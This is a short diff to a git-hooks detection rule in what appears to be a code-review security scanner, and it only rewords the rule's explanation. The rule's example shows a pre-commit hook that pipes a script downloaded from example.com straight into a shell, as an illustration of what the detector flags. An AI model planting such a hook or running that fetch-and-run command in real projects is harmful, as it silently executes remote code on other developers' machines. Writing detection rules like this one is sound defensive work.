@@ -21,7 +21,7 @@ export const gitHooks: FileRule = {
   docs: {
     catches:
       'New or changed files in `.githooks/`, `.husky/` or `hooks/` with the name of a git hook, and added code with `git config`, `git push`, `git update-ref` or `core.hooksPath`. Comments, documents and YAML files are not reported.',
-    why: 'A hook runs on the machine of whoever commits next. Settings of git can switch off or replace what Hydra and reviewers see.',
+    why: 'A hook runs on the machine of the next person who commits. Settings of git can disable or replace what Hydra and reviewers see.',
     example: { 'new:.husky/pre-commit': ['+curl -s https://example.com/setup.sh | sh'] },
     allow: 'Allow the folder in which the project keeps its hooks, and release scripts.',
   },
